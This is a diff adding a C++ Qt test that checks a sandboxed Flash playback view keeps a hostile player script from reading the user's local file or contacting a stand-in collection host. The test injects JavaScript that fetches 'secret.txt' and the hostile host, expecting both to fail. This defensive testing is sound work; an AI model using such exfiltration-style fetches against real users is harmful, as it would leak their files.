@@ -25,6 +25,7 @@
 #include "playback/player_page.h"
 #include "playback/view/page_view.h"
 #include "standin/picture_canvas.h"
+#include "standin/services.h"
 #include "standin/standin_environment.h"
 #include "support/virtual_display.h"
 #include "ui/trailer_window.h"
@@ -145,6 +146,7 @@ private slots:
     void rightClicksOnThePlayerOpenNoMenu();
     void linksInThePageLeaveTheViewWhereItIs();
     void pageInTheUsersFolderPlaysWhenTheRunDirectoryCannotBeWritten();
+    void hostilePlayerReachesNeitherTheUsersFilesNorOtherHosts();
 
 private:
     void openView();
@@ -393,6 +395,51 @@ void FlashPlaybackTest::pageInTheUsersFolderPlaysWhenTheRunDirectoryCannotBeWrit
     const QImage first = waitForPlaying(*window_);
     QVERIFY(!first.isNull());
     QVERIFY(keepsMoving(*window_, first));
+}
+
+void FlashPlaybackTest::hostilePlayerReachesNeitherTheUsersFilesNorOtherHosts() {
+    // A file of the user's, beside the page: the hostile player's script asks for it.
+    QFile secret(dir_.filePath(QStringLiteral("secret.txt")));
+    QVERIFY(secret.open(QIODevice::WriteOnly));
+    secret.write("the user's own words");
+    secret.close();
+    auto hostileRequests = [this] {
+        int count = 0;
+        for (const auto& request : standin_->server().requests()) {
+            count += request.raw.find("arlohostile") != std::string::npos ? 1 : 0;
+        }
+        return count;
+    };
+    standin_->server().clearRequests();
+
+    openView();
+    QVERIFY(loadAndWait(writePage(PageTemplate::Iqiyi, "test-hostile")));
+    const QImage first = waitForPlaying(*window_);
+    QVERIFY(!first.isNull());
+    QVERIFY(keepsMoving(*window_, first));
+    QCOMPARE(evaluate(*view_, QStringLiteral("window.arloHostileRan === true")).toBool(), false);
+    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('iframe').length")).toInt(),
+             0);
+
+    // Script that got into the page anyway reads no file but the page and reaches no host
+    // but the players'.
+    evaluate(*view_,
+             QStringLiteral("window.reads = [];"
+                            "for (const u of [location.href, 'secret.txt', "
+                            "'http://%1/c?d=x', 'http://%2/sohu_20140917.swf?id=1']) fetch(u).then("
+                            "r => r.text()).then(t => reads.push(u + ':' + t.length), "
+                            "() => reads.push(u + ':failed')); 0")
+                 .arg(QLatin1String(arlo::standin::kHostileCollectHost.data()),
+                      QString::fromStdString(kPlayerHost)));
+    QTRY_COMPARE(evaluate(*view_, QStringLiteral("reads.length")).toInt(), 4);
+    const QString reads =
+        evaluate(*view_, QStringLiteral("reads.map(r => r.replace(/^.*[/]/, '')).sort().join()"))
+            .toString();
+    QVERIFY2(reads.contains(QStringLiteral("secret.txt:failed")), qPrintable(reads));
+    QVERIFY2(reads.contains(QStringLiteral("c?d=x:failed")), qPrintable(reads));
+    QVERIFY2(!reads.contains(QStringLiteral("htm:failed")), qPrintable(reads));
+    QVERIFY2(!reads.contains(QStringLiteral("id=1:failed")), qPrintable(reads));
+    QCOMPARE(hostileRequests(), 0);
 }
 
 int main(int argc, char** argv) {
